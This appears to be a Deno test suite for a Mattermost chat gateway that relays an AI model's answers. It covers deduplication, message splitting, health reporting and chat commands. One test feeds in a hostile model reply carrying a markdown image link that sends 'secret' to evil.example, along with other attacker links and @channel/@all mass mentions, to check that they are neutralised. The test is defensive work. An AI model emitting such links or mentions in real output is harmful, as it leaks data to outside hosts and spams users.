// The client rules 20 to 29 of the Mattermost contract: what is posted, exactly once, in its place, and
// so that looking at it harms nobody; and how the channel says how it is.
import { deepStrictEqual, match, ok as isTrue, strictEqual } from "node:assert";
import { gatewayHouse } from "../../tests/doubles/gatewayd.ts";
import type { RequestEntry } from "../../tests/doubles/mattermost/record.ts";
import { points } from "./outgoing_text.ts";

type House = Awaited<ReturnType<typeof gatewayHouse>>;

const requests = (house: House) =>
  house.rig.double.traffic().filter((entry): entry is RequestEntry => entry.kind === "request");
const bodyOf = (entry: RequestEntry): Record<string, unknown> => Object(entry.body);

function countOf(house: House, text: string | RegExp): number {
  return house.answers().filter(({ message }) =>
    typeof text === "string" ? message === text : text.test(message)
  ).length;
}

async function answered(house: House, message: string, root = ""): Promise<string> {
  const post = house.write(message, root);
  await house.until(`an answer to ${message}`, () => countOf(house, `Answer to: ${message}`) === 1);
  return post.id;
}

Deno.test("rule 20: posts leave one after another, and an answer replaces its own draft", async () => {
  await using house = await gatewayHouse({ knobs: { createDelayMs: 30, latencyMs: 10 } });
  await house.ready();
  const roots = ["a", "b", "c"].map((message) => house.write(message).id);
  await house.until("all", () => countOf(house, /^Answer to: /) === 3);
  for (const root of roots) strictEqual(house.thread(root).length, 2);
  for (const entry of requests(house)) {
    if (!entry.path.endsWith("/patch") || bodyOf(entry).props === undefined) continue;
    match(String(bodyOf(entry).message), /^Answer to: /);
  }
});

Deno.test("rule 21: a post whose answer was lost is there once, by its pending id", async () => {
  await using house = await gatewayHouse();
  await house.ready();
  const lost = (isCommitted: boolean) =>
    house.rig.double.fault({
      method: "POST",
      path: "^/posts$",
      action: { kind: "lost", isCommitted },
    });
  lost(true);
  lost(false);
  lost(true);
  await answered(house, "lost");
  house.rig.double.fault({
    method: "POST",
    path: "^/posts$",
    action: { kind: "refuse", status: 500, id: "api.post.deduplicate_create_post.pending" },
  });
  await answered(house, "pending");
  house.rig.double.fault({
    method: "PUT",
    path: "/patch$",
    times: 2,
    action: { kind: "lost", isCommitted: true },
  });
  await answered(house, "lost patch");
  strictEqual(house.answers().length, 3);
  for (const entry of requests(house)) {
    if (entry.method !== "POST" || entry.path !== "/posts") continue;
    match(String(bodyOf(entry).pending_post_id), new RegExp(`^${house.rig.bot.id}:[0-9a-f-]{36}$`));
    strictEqual(bodyOf(entry).create_at, undefined);
  }
});

Deno.test("rule 21: after a crash, or when the server has forgotten, the channel is searched first", async () => {
  await using house = await gatewayHouse();
  await house.ready();
  const root = await answered(house, "first");
  house.rig.double.fault({
    method: "POST",
    path: "^/posts$",
    action: { kind: "lost", isCommitted: true },
  });
  house.rig.double.fault({ path: ".", times: 4, action: { kind: "lost", isCommitted: false } });
  house.write("second", root);
  await house.until("tried", () => house.rig.double.faultsLeft() <= 3);
  await house.stopGateway();
  house.rig.double.bounce();
  house.rig.double.calm();
  house.startGateway();
  await house.until("answered", () => countOf(house, "Answer to: second") === 1);
  strictEqual(house.answers().length, 2);
});

Deno.test("rule 22: every answer stands in its thread; a thread that is gone gets a post of its own", async () => {
  await using house = await gatewayHouse();
  await house.ready();
  const one = await answered(house, "one");
  const two = await answered(house, "two");
  await answered(house, "three", one);
  strictEqual(house.thread(one).length, 4);
  strictEqual(house.thread(two).length, 2);
  house.loop.reply = () => null;
  const post = house.write("four");
  await house.until("taken", () => house.loop.taken.length === 4);
  await house.until("drafted", () => house.store().unsent() === 0);
  house.rig.double.deleteAs(house.rig.owner.id, post.id);
  house.loop.finish(post.id, "too late");
  await house.until("posted", () => countOf(house, "too late") === 1);
  strictEqual(house.answers().find((one) => one.message === "too late")?.root_id, "");
});

Deno.test("rule 23: long answers are split at the server's own limit, and a refused part is told", async () => {
  await using house = await gatewayHouse({ knobs: { maxPostSize: 1_000 } });
  await house.ready();
  house.loop.reply = () => `\`\`\`js\n${"let a = 1;\n".repeat(300)}\`\`\`\nend 👩‍👩‍👧‍👦`;
  const post = house.write("code");
  await house.until("all", () => house.thread(post.id).some((one) => /end/.test(one.message)));
  const parts = house.thread(post.id).slice(1);
  isTrue(parts.length >= 4);
  for (const { message } of parts) {
    isTrue(points(message) <= 1_000);
    isTrue(!message.includes("let") || message.startsWith("```js\n"));
  }
  house.loop.reply = () => "refused";
  house.rig.double.fault({
    path: "/patch$",
    action: {
      kind: "refuse",
      status: 400,
      id: "api.post.update_post.permissions_time_limit.app_error",
    },
  });
  house.rig.double.fault({
    path: "^/posts$",
    skip: 1,
    action: { kind: "refuse", status: 400, id: "plugin.message_will_be_posted.dismiss_post" },
  });
  const other = house.write("other");
  await house.until(
    "told",
    () => house.thread(other.id).some((one) => /could not be posted/.test(one.message)),
  );
});

Deno.test("rule 24: a file the server did not keep is told, and an answer of many posts is a file", async () => {
  await using house = await gatewayHouse({ knobs: { maxPostSize: 600 } });
  await house.ready();
  const long = "All work and no play. ".repeat(600);
  house.loop.reply = () => long;
  const post = house.write("long");
  const whole = () => house.thread(post.id).find((one) => one.message === "The whole answer:");
  await house.until("attached", () => whole() !== undefined);
  strictEqual(house.rig.double.fileText(whole()?.file_ids?.[0] ?? ""), long);
  house.rig.double.set({ filesDropped: true });
  const other = house.write("again");
  await house.until(
    "told",
    () => house.thread(other.id).some((one) => /did not keep/.test(one.message)),
  );
});

Deno.test("rule 25: a change says the message alone or all props, and nothing is ever put whole", async () => {
  await using house = await gatewayHouse();
  await house.ready();
  await answered(house, "one");
  for (const entry of requests(house)) {
    isTrue(!(entry.method === "PUT" && /^\/posts\/[a-z0-9]{26}$/.test(entry.path)));
    if (!entry.path.endsWith("/patch")) continue;
    const { props, ...rest } = bodyOf(entry);
    deepStrictEqual(Object.keys(rest), ["message"]);
    if (props !== undefined) strictEqual(Object(props).unsafe_links, "true");
  }
  for (const post of house.answers()) strictEqual(post.props.unsafe_links, "true");
});

Deno.test("rule 26 and rule 27: hostile words of the model fetch nothing and notify nobody", async () => {
  await using house = await gatewayHouse();
  await house.ready();
  house.loop.reply = () =>
    "@channel look: ![x](https://evil.example/?q=secret) https://evil.example www.evil.example " +
    "[a](http://evil.example) <img src=//evil.example>\n[r]: http://evil.example\n&#64;all \\@here";
  const post = house.write("go");
  await house.until(
    "answered",
    () => house.thread(post.id).some((one) => /look/.test(one.message)),
  );
  // What was posted is judged by the double when the house is taken down.
});

Deno.test("rule 28: another version, or a changed configuration, is read anew", async () => {
  await using house = await gatewayHouse();
  await house.ready();
  await answered(house, "one");
  house.rig.double.set({ maxPostSize: 700 });
  house.rig.double.bounce("11.12.0");
  const reads = () => requests(house).filter((entry) => entry.path === "/config/client").length;
  await house.until("read", () => reads() >= 2);
  await house.ready();
  house.loop.reply = () => "word ".repeat(400);
  const post = house.write("two");
  await house.until("split", () => house.thread(post.id).length >= 4);
  for (const { message } of house.thread(post.id)) isTrue(points(message) <= 700);
  const before = reads();
  house.rig.double.set({ maxPostSize: 900 });
  await house.until("read again", () => reads() > before);
});

Deno.test("rule 29: health is the time of the last good ping, and an outage is told afterwards", async () => {
  await using house = await gatewayHouse();
  await house.ready();
  await answered(house, "one");
  await house.until("connected", () => house.gateway().health.state() === "connected");
  house.rig.double.set({ upgradeRefused: true, sessionsInvalid: true });
  house.rig.double.drop("half-open");
  await house.until("lost", () => house.gateway().health.state() === "lost");
  await new Promise((resolve) => setTimeout(resolve, 700));
  house.rig.double.calm();
  house.rig.double.set({ upgradeRefused: false, sessionsInvalid: false });
  await house.until("told", () => countOf(house, /^The channel was down for 1 min/) === 1);
  await house.until("connected", () => house.gateway().health.state() === "connected");
});

Deno.test("rule 29: a server whose clock is far from this machine's is told, until it is right again", async () => {
  await using house = await gatewayHouse({ knobs: { aheadMs: -300_000 } });
  await house.ready();
  await answered(house, "in the past");
  const skew = () =>
    house.gateway().health.problems().find((one) => one.code === "channel-clock-skew");
  await house.until("told", () => skew() !== undefined);
  match(skew()?.detail ?? "", /300 s behind/);
  house.rig.double.set({ aheadMs: 300_000 });
  await house.until("ahead", () => /300 s ahead/.test(skew()?.detail ?? ""));
  await answered(house, "in the future");
  house.rig.double.set({ aheadMs: 0 });
  await house.until("right", () => skew() === undefined);
});

Deno.test("orders are answered in their thread and never reach the model", async () => {
  await using house = await gatewayHouse();
  await house.ready();
  house.loop.reply = () => null;
  const post = house.write("work");
  await house.until("taken", () => house.loop.taken.length === 1);
  for (const order of ["!frobnicate", "!status", "!jobs", "!runs", "!help", "!deny x y"]) {
    house.write(order, post.id);
  }
  house.write("!stop");
  house.write("!new");
  house.write("!cancel", post.id);
  await house.until(
    "all",
    () => countOf(house, /cancelled/) === 1 && house.store().commands().length === 0,
  );
  await house.until("quiet", () => house.store().unsent() === 0);
  strictEqual(house.gateway().summary(), "Connected");
  const words = house.thread(post.id).map((one) => one.message).join("\n");
  match(words, /I do not know !frobnicate/);
  match(words, /Channel: Connected; 1 message under way/);
  match(words, /There are no jobs: /);
  match(words, /There are no runs: /);
  match(words, /!approve CODE or !deny CODE/);
  match(words, /!deny is written otherwise/);
  strictEqual(house.loop.stops.length, 1);
  strictEqual(house.loop.taken.length, 1);
  deepStrictEqual(house.loop.cancelled, [`mm-${post.id}`]);
  const fresh = house.answers().find((one) => /^A new conversation/.test(one.message));
  strictEqual(fresh?.root_id, "");
  house.loop.reply = () => "hello there";
  house.write("hello", fresh?.id ?? "");
  await house.until(
    "answered",
    () => house.thread(fresh?.id ?? "").some((one) => one.message === "hello there"),
  );
  strictEqual(house.loop.taken[1]?.session, `mm-${fresh?.id}`);
});

Deno.test("progress is shown in the draft while a turn runs, and typing until it ends", async () => {
  await using house = await gatewayHouse();
  await house.ready();
  house.loop.reply = () => null;
  const post = house.write("work");
  await house.until("taken", () => house.loop.taken.length === 1);
  const [taken] = house.loop.taken;
  isTrue(taken !== undefined);
  for (
    const [state, text] of [
      [{ state: "queued", place: 2 }, "Queued, place 2"],
      [{ state: "reading", percent: 41 }, "Reading 41 %"],
      [{ state: "calling", tool: "read_file" }, "Calling read_file"],
      [{ state: "waiting_approval" }, "Waiting for your approval"],
    ] as const
  ) {
    house.loop.state(taken.session, state);
    await house.until(text, () => house.thread(post.id).at(-1)?.message === text);
  }
  await house.stopGateway();
  house.startGateway();
  await house.ready();
  house.loop.finish(post.id, "done");
  await house.until("done", () => house.thread(post.id).at(-1)?.message === "done");
  strictEqual(house.thread(post.id).length, 2);
  const typing = () => requests(house).filter((entry) => entry.path.endsWith("/typing")).length;
  isTrue(typing() > 0);
  const before = typing();
  await new Promise((resolve) => setTimeout(resolve, 200));
  strictEqual(typing(), before);
});

Deno.test("a loopd that is away or unwilling is waited for, and its restarts lose and repeat nothing", async () => {
  await using house = await gatewayHouse();
  await house.ready();
  house.loop.refuse = "peer-down";
  const post = house.write("patience");
  await house.until(
    "told",
    () => house.thread(post.id).some((one) => /^Waiting: /.test(one.message)),
  );
  house.loop.refuse = null;
  await house.until("answered", () => countOf(house, "Answer to: patience") === 1);
  house.loop.restart();
  await answered(house, "again", post.id);
  house.loop.refuse = "session-damaged";
  house.write("broken", post.id);
  await house.until("refused", () => countOf(house, /session-damaged/) === 1);
  await house.until("acknowledged", () => house.loop.pending() === 0);
});

Deno.test("notices of the house stand in one thread, each once", async () => {
  await using house = await gatewayHouse();
  await house.ready();
  for (const id of ["head-1", "head-2", "head-1"]) {
    isTrue(house.gateway().notice(id, `Audit log: ${id} https://x.example`));
  }
  await house.until("posted", () => house.answers().length === 3);
  const [root, ...rest] = house.answers();
  for (const post of rest) strictEqual(post.root_id, root?.id);
});
